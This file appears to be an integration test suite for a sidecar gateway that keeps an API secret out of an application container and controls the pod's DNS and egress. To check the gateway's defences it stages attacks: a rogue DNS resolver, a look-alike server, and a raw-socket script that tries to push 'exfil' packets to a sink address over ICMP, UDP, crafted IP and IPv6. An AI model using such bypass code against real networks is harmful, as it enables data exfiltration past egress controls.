"""The gateway as a pod's sidecar (`airlock gateway --sidecar`), in the shape of
deploy/kubernetes/airlock-sidecar.yaml, built on this machine from that file: the init step's and
the sidecar's commands, their uids, the volumes (each mount path becomes a directory under the
lab's pod filesystem, the Secret's only in the sidecar's reach) and the app's env are read from
the manifest; only the config's hosts are the lab's.

  pod netns (one network namespace, as the containers of a pod share)       net netns ("the internet")
    init step:  airlock gateway init-redirect --gateway-uid 1337 (root)       nginx: api.example.com 203.0.113.10,
    sidecar:    airlock gateway --sidecar, uid 1337, no capabilities                 [2001:db8:2::10], other.example.com
                (the Secret's value file readable only by it)                        203.0.113.11, a look-alike .66
    app:        uid 1000 (CAP_NET_RAW where an attack needs it), placeholders   cluster DNS 203.0.113.53 (dnsmasq)
                in its env, the CA from the sidecar's shared volume             a DNS of the attacker's 203.0.113.54
    198.51.100.2 / 2001:db8:1::2 ─────────────── veth ───────────────── 198.51.100.1 / 2001:db8:1::1, sink 203.0.113.99

Assertions are on what the upstream received (nginx's JSON access log), on the attacker's own
servers, and on a packet counter in the net namespace, never on what the gateway says it did.
"""
import json
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import textwrap
import time

import pytest
import yaml

from netlab import Lab, TAG, assert_absent, assert_equal_secret, in_ns, json_lines, run_clean, sh, stop, wait_for, wait_listening

AIRLOCK = os.environ.get("AIRLOCK_BIN", "")
POD, NET = f"alsp{TAG}", f"alsn{TAG}"
PY = "/usr/bin/python3"
MANIFEST = os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../deploy/kubernetes/airlock-sidecar.yaml")


def load_manifest():
    docs = {d["kind"]: d for d in yaml.safe_load_all(open(MANIFEST))}
    spec = docs["Deployment"]["spec"]["template"]["spec"]
    by_name = {c["name"]: c for c in spec["initContainers"] + spec["containers"]}
    return docs, spec, by_name["airlock-redirect"], by_name["airlock-gateway"], by_name["app"]


DOCS, POD_SPEC, INIT, SIDECAR, APP = load_manifest()
GATEWAY_UID = SIDECAR["securityContext"]["runAsUser"]
APP_UID = APP["securityContext"]["runAsUser"]
APP_ENV = {e["name"]: e["value"] for e in APP["env"]}
SECRET_ENV = "OPENAI_API_KEY"
PH = APP_ENV[SECRET_ENV]  # the placeholder the manifest puts in the app's env

assert os.geteuid() == 0 and AIRLOCK, "these tests need root and AIRLOCK_BIN"


def as_uid(uid, *args, caps=()):
    """args in the pod as uid (no groups; only `caps`, as ambient capabilities)."""
    capflags = []
    if caps:
        spec = ",".join("+" + c for c in caps)
        capflags = ["--inh-caps", spec, "--ambient-caps", spec]
    else:
        capflags = ["--inh-caps", "-all"]
    return ["ip", "netns", "exec", POD, "setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups",
            *capflags, "--", *args]


def dns_query(name, qtype=1):
    qid = 0x4242
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", qtype, 1)


def dns_a_answers(reply):
    """The A records of a reply to dns_query (no compression needed beyond the usual pointer)."""
    count = struct.unpack(">H", reply[6:8])[0]
    at = 12
    while reply[at] != 0:
        at += reply[at] + 1
    at += 5
    out = []
    for _ in range(count):
        at += 2 if reply[at] & 0xC0 == 0xC0 else len(reply[at:].split(b"\0", 1)[0]) + 1
        rtype, _, _, rdlen = struct.unpack(">HHIH", reply[at:at + 10])
        at += 10
        if rtype == 1:
            out.append(socket.inet_ntoa(reply[at:at + 4]))
        at += rdlen
    return out


class Pod:
    def __init__(self, lab):
        self.lab = lab
        self.path = lab.path
        self.value = "fake-sidecar-value-" + os.urandom(6).hex()
        self.gateway = None

    def in_pod(self, path):
        """A path of the manifest's containers, on the lab's pod filesystem."""
        return self.path("podfs") + path

    def pod_args(self, command):
        """A container's command with `airlock` and the mount paths made the lab's."""
        mounts = sorted({m["mountPath"] for c in (SIDECAR, APP) for m in c.get("volumeMounts", [])}, key=len, reverse=True)
        out = []
        for arg in command:
            if arg == "airlock":
                arg = AIRLOCK
            scheme = "unix:" if arg.startswith("unix:") else ""
            path = arg[len(scheme):]
            for m in mounts:
                if path == m or path.startswith(m + "/"):
                    arg = scheme + self.in_pod(m) + path[len(m):]
                    break
            out.append(arg)
        return out

    def setup(self):
        os.chmod(self.lab.dir, 0o755)  # the pod's users reach their own files below it
        self.network()
        self.certificates()
        self.servers()
        self.init_redirect()
        self.start_sidecar()

    def network(self):
        self.lab.netns(POD)
        self.lab.netns(NET)
        self.lab.veth(f"vp{TAG}", f"vn{TAG}", POD, NET)
        in_ns(POD, "ip", "addr", "add", "198.51.100.2/24", "dev", f"vp{TAG}")
        in_ns(POD, "ip", "-6", "addr", "add", "2001:db8:1::2/64", "dev", f"vp{TAG}", "nodad")
        in_ns(POD, "ip", "link", "set", f"vp{TAG}", "up")
        in_ns(POD, "ip", "route", "add", "default", "via", "198.51.100.1")
        in_ns(POD, "ip", "-6", "route", "add", "default", "via", "2001:db8:1::1")
        in_ns(NET, "ip", "addr", "add", "198.51.100.1/24", "dev", f"vn{TAG}")
        in_ns(NET, "ip", "-6", "addr", "add", "2001:db8:1::1/64", "dev", f"vn{TAG}", "nodad")
        in_ns(NET, "ip", "link", "set", f"vn{TAG}", "up")
        for last in (10, 11, 53, 54, 66, 99):
            in_ns(NET, "ip", "addr", "add", f"203.0.113.{last}/32", "dev", "lo")
        for ip6 in ("2001:db8:2::10", "2001:db8:99::1"):
            in_ns(NET, "ip", "-6", "addr", "add", f"{ip6}/128", "dev", "lo")
        # Counts every packet that reaches the sink addresses: what got out of the pod.
        in_ns(NET, "nft", "-f", self.lab.write("sink.nft", textwrap.dedent("""\
            table inet sink {
              chain pre {
                type filter hook prerouting priority -300; policy accept;
                ip daddr 203.0.113.99 counter
                ip6 daddr 2001:db8:99::1 counter
              }
            }
            """)))
        self.lab.netns_file(POD, "resolv.conf", "nameserver 203.0.113.53\n")
        self.lab.netns_file(POD, "hosts", "127.0.0.1 localhost\n::1 localhost\n")

    def certificates(self):
        self.lab.ca("test-ca")
        self.lab.leaf("server", "test-ca", "DNS:api.example.com,DNS:other.example.com")

    def dnsmasq(self, name, listen, records):
        self.lab.start(["ip", "netns", "exec", NET, "dnsmasq", "--keep-in-foreground", "--no-resolv", "--no-hosts",
                        "--bind-interfaces", f"--listen-address={listen}", "--port=53", "--user=root",
                        "--log-queries", f"--log-facility={self.path(name + '.log')}",
                        f"--pid-file={self.path(name + '.pid')}", *records], name + ".stderr")
        wait_listening(NET, [f"{listen}:53"], f"{name} listening", proto="udp")

    def servers(self):
        d = self.lab.dir
        self.upstream = self.lab.nginx(NET, {
            "uri": "$request_uri", "authorization": "$http_authorization", "server": "$server_addr",
        }, f"""\
            server {{
              listen 203.0.113.10:443 ssl; listen 203.0.113.11:443 ssl; listen 203.0.113.66:443 ssl;
              listen [2001:db8:2::10]:443 ssl;
              ssl_certificate {d}/server.pem; ssl_certificate_key {d}/server.key;
              location / {{ echo "ok"; }}
            }}
            """)
        self.dnsmasq("cluster-dns", "203.0.113.53", [
            "--host-record=api.example.com,203.0.113.10,2001:db8:2::10", "--host-record=other.example.com,203.0.113.11"])
        self.dnsmasq("attacker-dns", "203.0.113.54", ["--address=/api.example.com/203.0.113.66"])

    def init_redirect(self):
        # The init container: root with CAP_NET_ADMIN, once.
        out = sh("ip", "netns", "exec", POD, *self.pod_args(INIT["command"])).stdout
        assert "redirect installed" in out

    def start_sidecar(self):
        # The sidecar container: its uid, no capabilities, its volumes; the Secret only here.
        volumes = {v["name"]: v for v in POD_SPEC["volumes"]}
        for c, owner in ((SIDECAR, GATEWAY_UID), (APP, APP_UID)):
            for m in c.get("volumeMounts", []):
                os.makedirs(self.in_pod(m["mountPath"]), exist_ok=True)
        for m in SIDECAR["volumeMounts"]:
            d = self.in_pod(m["mountPath"])
            v = volumes[m["name"]]
            if "secret" in v:
                # Mounted into no other container: in the lab, a directory only the gateway's uid enters.
                for key, value in (("openai-api-key", self.value + "\n"),):
                    with open(os.path.join(d, key), "w") as f:
                        f.write(value)
                    os.chmod(os.path.join(d, key), 0o400)
                    os.chown(os.path.join(d, key), GATEWAY_UID, GATEWAY_UID)
                os.chmod(d, 0o700)
            elif "configMap" in v:
                for key, text in DOCS["ConfigMap"]["data"].items():
                    with open(os.path.join(d, key), "w") as f:
                        f.write(self.lab_config(text) if key == "airlock.toml" else text)
                continue
            os.chown(d, GATEWAY_UID, GATEWAY_UID)
        args = self.pod_args(SIDECAR["command"])
        self.ca = self.pod_args([APP_ENV["SSL_CERT_FILE"]])[0]
        self.audit = args[args.index("--audit-log") + 1]
        env = [f"{e['name']}={self.pod_args([e['value']])[0]}" for e in SIDECAR.get("env", [])]
        ready = self.path("sidecar.stdout")
        with open(ready, "w") as out:
            self.gateway = self.lab.start(as_uid(GATEWAY_UID, "env", *env, *args), "sidecar.stderr", stdout=out)
        wait_for(lambda: "airlock gateway ready" in open(ready).read() or self.gateway.poll() is not None,
                 "the sidecar's ready line", timeout=20)
        assert self.gateway.poll() is None, open(self.path("sidecar.stderr")).read()
        self.ready_line = open(ready).read()

    def lab_config(self, text):
        """The ConfigMap's airlock.toml with the lab's hosts: the allowed host, the test CA, and
        egress to the documentation ranges the lab uses (not public)."""
        assert 'allow_hosts = ["api.openai.com"]' in text and "[network]\n" in text
        text = text.replace('allow_hosts = ["api.openai.com"]', 'allow_hosts = ["api.example.com"]')
        text = text.replace("[network]\n", '[network]\negress = ["allow@203.0.113.0/24:tcp:443", '
                                           '"allow@[2001:db8::/32]:tcp:443"]\n', 1)
        text = re.sub(r'value_from = "file:(/[^"]+)"', lambda m: f'value_from = "file:{self.pod_args([m.group(1)])[0]}"', text)
        return text + f'\n[[network.upstream_ca]]\nfile = "{self.path("test-ca.pem")}"\n'

    def app(self, *args, caps=(), timeout=30):
        """A command of the app container: its uid, its env (the placeholder; paths made the lab's)."""
        env = {"PATH": "/usr/bin:/bin", "HOME": "/tmp", **{k: self.pod_args([v])[0] for k, v in APP_ENV.items()}}
        return run_clean(self.value, as_uid(APP_UID, *args, caps=caps), "the app", timeout=timeout, env=env)

    def curl(self, url, *extra):
        return self.app("curl", "-sS", "-m", "10", "--cacert", self.ca, "-H", f"Authorization: Bearer {PH}", *extra, url)

    def audit_records(self):
        with open(self.audit) as f:
            return json_lines(f.read())

    def sink_packets(self):
        return sum(int(n) for n in re.findall(r"packets (\d+)", in_ns(NET, "nft", "list", "table", "inet", "sink").stdout))

    def check_gateway_output(self):
        for name in (self.path("sidecar.stderr"), self.path("sidecar.stdout"), self.audit, self.ca):
            assert_absent(self.value, open(name).read(), name)


@pytest.fixture(scope="module")
def pod():
    with Lab("airlock-sidecar-") as lab:
        p = Pod(lab)
        p.setup()
        yield p
        p.check_gateway_output()
        stop(p.gateway)
        assert p.gateway.returncode == 0, open(p.path("sidecar.stderr")).read()


def test_ready_line_names_loopback_listeners_and_dns(pod):
    assert "transparent=127.0.0.1:15001,[::1]:15001" in pod.ready_line
    assert "dns=127.0.0.1:15053,[::1]:15053" in pod.ready_line
    assert open(pod.ca).read().startswith("-----BEGIN CERTIFICATE-----")


def test_app_cannot_read_the_secret_mounted_into_the_sidecar(pod):
    [mount] = [m for m in SIDECAR["volumeMounts"] if m["name"] == "airlock-values"]
    proc = pod.app("cat", pod.in_pod(mount["mountPath"]) + "/openai-api-key")
    assert proc.returncode != 0 and "Permission denied" in proc.stderr


def test_substitution_through_the_redirect_and_the_pods_dns(pod):
    proc = pod.curl("https://api.example.com/sub-v4", "-4")
    assert proc.returncode == 0 and proc.stdout == "ok\n", proc.stderr
    [rec] = pod.upstream.wait_received("/sub-v4")
    assert_equal_secret(rec["authorization"], f"Bearer {pod.value}", "what api.example.com received")
    assert rec["server"] == "203.0.113.10"


def test_ipv6_is_redirected_and_pinned_too(pod):
    proc = pod.curl("https://api.example.com/sub-v6", "-6")
    assert proc.returncode == 0 and proc.stdout == "ok\n", proc.stderr
    [rec] = pod.upstream.wait_received("/sub-v6")
    assert_equal_secret(rec["authorization"], f"Bearer {pod.value}", "what api.example.com received over IPv6")
    assert rec["server"] == "2001:db8:2::10"


def test_violation_is_blocked_and_audited(pod):
    proc = pod.curl("https://other.example.com/violation")
    assert proc.returncode != 0
    time.sleep(0.3)
    pod.upstream.assert_not_received("/violation")
    wait_for(lambda: any(r["event"] == "violation" and r["sni"] == "other.example.com" for r in pod.audit_records()),
             "the violation record")


def test_dns_to_any_server_is_answered_by_the_gateway(pod):
    """The app asks a resolver of its own choosing (the attacker's, over UDP): the redirect sends
    the query to the gateway's forwarder, which asks the pod's resolver; the attacker sees nothing."""
    script = textwrap.dedent(f"""\
        import socket, sys
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(bytes.fromhex(sys.argv[1]), ("203.0.113.54", 53))
        print(s.recv(4096).hex())
        """)
    proc = pod.app(PY, "-c", script, dns_query("api.example.com").hex())
    assert proc.returncode == 0, proc.stderr
    assert dns_a_answers(bytes.fromhex(proc.stdout.strip())) == ["203.0.113.10"]
    tcp = textwrap.dedent(f"""\
        import socket, struct, sys
        q = bytes.fromhex(sys.argv[1])
        s = socket.create_connection(("203.0.113.54", 53), timeout=5)
        s.sendall(struct.pack(">H", len(q)) + q)
        n = struct.unpack(">H", s.recv(2))[0]
        data = b""
        while len(data) < n:
            data += s.recv(n - len(data))
        print(data.hex())
        """)
    proc = pod.app(PY, "-c", tcp, dns_query("api.example.com").hex())
    assert proc.returncode == 0, proc.stderr
    assert dns_a_answers(bytes.fromhex(proc.stdout.strip())) == ["203.0.113.10"]
    assert "api.example.com" not in open(pod.path("attacker-dns.log")).read()
    # The control: asked directly (from its own namespace), the attacker's server answers and logs.
    out = in_ns(NET, PY, "-c", script, dns_query("api.example.com").hex()).stdout
    assert dns_a_answers(bytes.fromhex(out.strip())) == ["203.0.113.66"]
    wait_for(lambda: "api.example.com" in open(pod.path("attacker-dns.log")).read(), "the attacker's log")


def test_own_name_resolution_earns_no_substitution(pod):
    """The app resolves api.example.com itself (to a look-alike server holding a valid certificate
    for the name): the address is not among the pod's DNS answers, so the placeholder is a
    violation there and the look-alike never sees the value."""
    proc = pod.curl("https://api.example.com/own-resolution", "--resolve", "api.example.com:443:203.0.113.66")
    assert proc.returncode != 0
    time.sleep(0.3)
    for rec in pod.upstream.received("/own-resolution"):
        assert_absent(pod.value, json.dumps(rec), "the look-alike's access log")
    wait_for(lambda: any(r["event"] == "violation" and r.get("destination") == "203.0.113.66:443"
                         for r in pod.audit_records()), "the violation record")


RAW_SENDER = textwrap.dedent("""\
    import socket, struct, sys
    sent = []
    def attempt(name, fn):
        try:
            fn(); sent.append(name)
        except OSError as e:
            sent.append(name + ":" + e.strerror)
    def icmp4():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        body = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"exfil"
        padded = body + b"\\0" * (len(body) % 2)
        c = sum(struct.unpack(">%dH" % (len(padded) // 2), padded))
        c = (c >> 16) + (c & 0xFFFF); c = ~(c + (c >> 16)) & 0xFFFF
        s.sendto(body[:2] + struct.pack(">H", c) + body[4:], ("203.0.113.99", 0))
    def raw_udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        s.sendto(struct.pack(">HHHH", 40000, 9999, 13, 0) + b"exfil", ("203.0.113.99", 0))
    def raw_tcp_syn():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        s.sendto(struct.pack(">HHIIBBHHH", 40001, 443, 1, 0, 5 << 4, 0x02, 65535, 0, 0), ("203.0.113.99", 0))
    def hdrincl():
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        payload = struct.pack(">HHHH", 40002, 9999, 13, 0) + b"exfil"
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, 17, 0,
                         socket.inet_aton("198.51.100.2"), socket.inet_aton("203.0.113.99"))
        s.sendto(ip + payload, ("203.0.113.99", 0))
    def udp4():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"exfil", ("203.0.113.99", 9999))
    def udp6():
        socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"exfil", ("2001:db8:99::1", 9999))
    def icmp6():
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        s.sendto(struct.pack(">BBHHH", 128, 0, 0, 1, 1) + b"exfil", ("2001:db8:99::1", 0))
    def icmp6_as_neighbour_advert():
        s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        s.sendto(struct.pack(">BBHI16s", 136, 0, 0, 0, socket.inet_pton(socket.AF_INET6, "2001:db8:99::1")) + b"exfil",
                 ("2001:db8:99::1", 0))
    for name, fn in list(globals().items()):
        if callable(fn) and name not in ("attempt",) and fn.__module__ == "__main__":
            for _ in range(3):
                attempt(name, fn)
    print(" ".join(sent))
    """)


def test_raw_sockets_udp_icmp_and_ipv6_do_not_leave_the_pod(pod):
    before = pod.sink_packets()
    proc = pod.app(PY, "-c", RAW_SENDER, caps=("net_raw",))
    assert proc.returncode == 0, proc.stderr
    time.sleep(0.5)
    assert pod.sink_packets() == before, f"packets left the pod ({proc.stdout.strip()})"
    # The control: the same sender as the gateway's uid (excluded from the redirect) gets out, so
    # the counter counts and the app's packets were stopped by the redirect's rules.
    proc = run_clean(None, as_uid(GATEWAY_UID, PY, "-c", RAW_SENDER, caps=("net_raw",)), "the control")
    assert proc.returncode == 0, proc.stderr
    wait_for(lambda: pod.sink_packets() > before, "the control's packets at the sink")


def test_tcp_to_an_unallowed_port_is_reset_by_the_gateway(pod):
    proc = pod.app("curl", "-sS", "-m", "10", "http://203.0.113.99:8080/")
    assert proc.returncode != 0
    wait_for(lambda: any(r["event"] == "connection" and r.get("decision") == "denied"
                         and r.get("destination") == "203.0.113.99:8080" for r in pod.audit_records()),
             "the denied connection's record")


def test_app_connecting_to_the_gateways_own_listener_gets_nothing(pod):
    """Straight to the transparent listener (loopback is not redirected): no original destination
    but the listener itself, which the gateway must not connect to (a loop) and does not."""
    accepted = len(pod.audit_records())
    for url in ("http://127.0.0.1:15001/", "http://[::1]:15001/"):
        proc = pod.app("curl", "-sS", "-m", "5", url)
        assert proc.returncode != 0
    # Records are written as connections end, which curl may see first; then none more comes.
    # Only connections from loopback count: ours and any loop of the gateway to itself. A record
    # of an earlier test's connection, ended late, came from the pod's address and is not ours.
    def from_loopback():
        return [r for r in pod.audit_records()[accepted:]
                if r["event"] == "connection" and r.get("client", "").startswith(("127.", "[::1]"))]
    wait_for(lambda: len(from_loopback()) >= 2, "two connection records")
    time.sleep(0.3)
    records = from_loopback()
    # One record each, closed at once: no loop of connections to itself.
    assert [r["decision"] for r in records] == ["no_original_destination"] * 2


def test_init_redirect_refuses_root_and_needs_net_admin(pod):
    proc = subprocess.run(["ip", "netns", "exec", POD, AIRLOCK, "gateway", "init-redirect", "--gateway-uid=0"],
                          capture_output=True, text=True, timeout=30)
    assert proc.returncode == 2 and "--gateway-uid" in proc.stderr
    # The app cannot lift the redirect (no CAP_NET_ADMIN), even with the tool at hand.
    proc = pod.app(AIRLOCK, "gateway", "init-redirect", "--remove")
    assert proc.returncode != 0 and "CAP_NET_ADMIN" in proc.stderr
    assert "airlock_sidecar" in in_ns(POD, "nft", "list", "tables").stdout


# ---------------------------------------------------------------- --redirect: one process installs and removes


def _start_redirecting(lab, ns, name):
    out_path = lab.path(f"{name}.stdout")
    out = open(out_path, "w")
    config = lab.write(f"{name}.toml", "[network]\non_secret_violation = \"block\"\n")
    home = lab.path(f"{name}-home")
    os.mkdir(home, 0o755)
    os.chown(home, GATEWAY_UID, GATEWAY_UID)
    proc = subprocess.Popen(["ip", "netns", "exec", ns, "env", f"AIRLOCK_HOME={home}", AIRLOCK, "gateway", "--sidecar",
                             "--redirect", f"--user={GATEWAY_UID}", "--config", config],
                            stdout=out, stderr=subprocess.PIPE, text=True)
    wait_for(lambda: "ready" in open(out_path).read() or proc.poll() is not None, "the ready line", timeout=20)
    assert proc.poll() is None, proc.stderr.read()
    return proc


def _gateway_child(parent):
    children = sh("ps", "-o", "pid=,uid=", "--ppid", str(parent.pid)).stdout.split()
    # `ip netns exec` execs airlock, which forked the gateway.
    return int(children[0]), int(children[1])


def test_redirect_mode_installs_serves_unprivileged_and_removes_after_a_clean_stop():
    with Lab("airlock-redirect-") as lab:
        os.chmod(lab.dir, 0o755)
        ns = f"alsr{TAG}"
        lab.netns(ns)
        proc = _start_redirecting(lab, ns, "clean")
        try:
            rules = in_ns(ns, "nft", "list", "table", "inet", "airlock_sidecar").stdout
            assert f"meta skuid {GATEWAY_UID} return" in rules
            pid, uid = _gateway_child(proc)
            assert uid == GATEWAY_UID
            status = open(f"/proc/{pid}/status").read()
            assert re.search(r"^CapEff:\s+0+$", status, re.M), "the serving gateway holds capabilities"
            proc.send_signal(signal.SIGTERM)
            assert proc.wait(timeout=20) == 0, proc.stderr.read()
        finally:
            stop(proc)
        assert "airlock_sidecar" not in in_ns(ns, "nft", "list", "tables").stdout

        # A crash keeps the redirect: the workload fails closed instead of leaving unfiltered.
        proc = _start_redirecting(lab, ns, "crash")
        try:
            pid, _ = _gateway_child(proc)
            os.kill(pid, signal.SIGKILL)
            assert proc.wait(timeout=20) == 128 + signal.SIGKILL
            assert "redirect stays in place" in proc.stderr.read()
        finally:
            stop(proc)
        assert "airlock_sidecar" in in_ns(ns, "nft", "list", "tables").stdout
        in_ns(ns, AIRLOCK, "gateway", "init-redirect", "--remove")
        assert "airlock_sidecar" not in in_ns(ns, "nft", "list", "tables").stdout


def test_sidecar_refuses_to_serve_as_root_and_user_zero(tmp_path):
    config = tmp_path / "a.toml"
    config.write_text("[network]\n")
    proc = subprocess.run([AIRLOCK, "gateway", "--sidecar", "--config", str(config)], capture_output=True, text=True,
                          timeout=30)
    assert proc.returncode == 2 and "must not serve as root" in proc.stderr
    proc = subprocess.run([AIRLOCK, "gateway", "--sidecar", "--redirect", "--user=0", "--config", str(config)],
                          capture_output=True, text=True, timeout=30)
    assert proc.returncode == 2 and "--user 0" in proc.stderr


def test_metrics_of_the_pod_parse_and_count_what_happened(pod):
    """Scraped from the manifest's admin socket after the tests above: the substitutions, the
    violations, the denial and the DNS answers the pod saw are counted; no value in it."""
    from prometheus_client.parser import text_string_to_metric_families
    args = pod.pod_args(SIDECAR["command"])
    path = args[args.index("--admin") + 1][5:]
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(10)
    s.connect(path)
    s.sendall(b"GET /metrics HTTP/1.1\r\nHost: admin\r\n\r\n")
    data = b""
    while chunk := s.recv(65536):
        data += chunk
    s.close()
    head, _, body = data.decode().partition("\r\n\r\n")
    assert head.startswith("HTTP/1.1 200")
    assert_absent(pod.value, body, "/metrics")
    samples = {(x.name, tuple(sorted(x.labels.items()))): x.value
               for f in text_string_to_metric_families(body) for x in f.samples}
    assert samples[("airlock_substitutions_by_secret_total", (("secret", SECRET_ENV),))] >= 2  # IPv4 and IPv6
    assert samples[("airlock_violations_total", (("action", "block-and-log"),))] >= 2  # other host, look-alike
    assert samples[("airlock_connections_total", (("decision", "denied"),))] >= 1  # port 8080
    assert samples[("airlock_dns_responses_total", (("outcome", "answered"),))] >= 3
    assert samples[("airlock_ready", ())] == 1
    assert samples[("airlock_connection_duration_milliseconds_count", ())] == \
        sum(v for (n, _), v in samples.items() if n == "airlock_connections_total")


# ---------------------------------------------------------------- the manifest itself


def test_manifest_names_what_this_test_relies_on():
    assert set(DOCS) == {"ConfigMap", "Secret", "Deployment"}
    init_cmd, side_cmd = INIT["command"], SIDECAR["command"]
    assert init_cmd[:3] == ["airlock", "gateway", "init-redirect"]
    assert side_cmd[:3] == ["airlock", "gateway", "--sidecar"]
    # The init step excludes exactly the sidecar's uid, and both agree on the ports.
    assert f"--gateway-uid={GATEWAY_UID}" in init_cmd
    for flag in ("--transparent-port", "--dns-port"):
        assert [a for a in init_cmd if a.startswith(flag)] == [a for a in side_cmd if a.startswith(flag)]
    assert INIT["securityContext"]["capabilities"] == {"drop": ["ALL"], "add": ["NET_ADMIN"]}
    # The sidecar: a uid of its own, no capabilities; a native sidecar that starts before the app.
    assert GATEWAY_UID not in (0, APP_UID)
    assert SIDECAR["restartPolicy"] == "Always" and SIDECAR in POD_SPEC["initContainers"]
    for c in (SIDECAR, APP):
        sc = c["securityContext"]
        assert sc["runAsNonRoot"] is True and sc["allowPrivilegeEscalation"] is False
        assert sc["capabilities"] == {"drop": ["ALL"]}, c["name"]
    # The Secret is mounted into the sidecar only; the CA volume into both, read-only for the app.
    volumes = {v["name"]: v for v in POD_SPEC["volumes"]}
    secret_volumes = {n for n, v in volumes.items() if v.get("secret", {}).get("secretName") == DOCS["Secret"]["metadata"]["name"]}
    assert secret_volumes == {"airlock-values"}
    for c in POD_SPEC["initContainers"] + POD_SPEC["containers"]:
        mounted = {m["name"] for m in c.get("volumeMounts", [])}
        assert (secret_volumes <= mounted) == (c is SIDECAR), c["name"]
    # The admin socket's volume, too, is the sidecar's alone.
    admin = side_cmd[side_cmd.index("--admin") + 1]
    assert admin.startswith("unix:/")
    [admin_mount] = [m for m in SIDECAR["volumeMounts"] if admin[5:].startswith(m["mountPath"] + "/")]
    for c in POD_SPEC["initContainers"] + POD_SPEC["containers"]:
        assert (admin_mount["name"] in {m["name"] for m in c.get("volumeMounts", [])}) == (c is SIDECAR), c["name"]
    export = side_cmd[side_cmd.index("--export-ca") + 1]
    [ca_mount] = [m for m in APP["volumeMounts"] if export.startswith(m["mountPath"] + "/")]
    assert ca_mount["readOnly"] is True and APP_ENV["SSL_CERT_FILE"] == export
    assert volumes[ca_mount["name"]] == {"name": ca_mount["name"], "emptyDir": {}}
    # The config the sidecar reads is the ConfigMap; its secrets read the Secret's keys, and the app
    # holds each one's placeholder.
    config_path = side_cmd[side_cmd.index("--config") + 1]
    [config_mount] = [m for m in SIDECAR["volumeMounts"] if config_path.startswith(m["mountPath"] + "/")]
    assert volumes[config_mount["name"]]["configMap"]["name"] == DOCS["ConfigMap"]["metadata"]["name"]
    toml = DOCS["ConfigMap"]["data"][os.path.basename(config_path)]
    [secret_mount] = [m for m in SIDECAR["volumeMounts"] if m["name"] == "airlock-values"]
    for env, source in re.findall(r'env = "(\w+)"\s+(?:#.*\n\s*)*value_from = "file:([^"]+)"', toml):
        assert source.startswith(secret_mount["mountPath"] + "/")
        assert os.path.basename(source) in DOCS["Secret"]["stringData"]
        assert APP_ENV[env] == f"$MSB_{env}"
    assert SECRET_ENV in APP_ENV


def test_the_configmaps_config_is_valid(tmp_path):
    toml = DOCS["ConfigMap"]["data"]["airlock.toml"]
    value = tmp_path / "openai-api-key"
    value.write_text("fake-manifest-value\n")
    config = tmp_path / "airlock.toml"
    config.write_text(toml.replace("/run/secrets/airlock/openai-api-key", str(value)))
    proc = run_clean("fake-manifest-value", [AIRLOCK, "check", str(config)], "airlock check")
    assert proc.returncode == 0, proc.stderr
    assert "$MSB_OPENAI_API_KEY" in proc.stdout and "api.openai.com" in proc.stdout
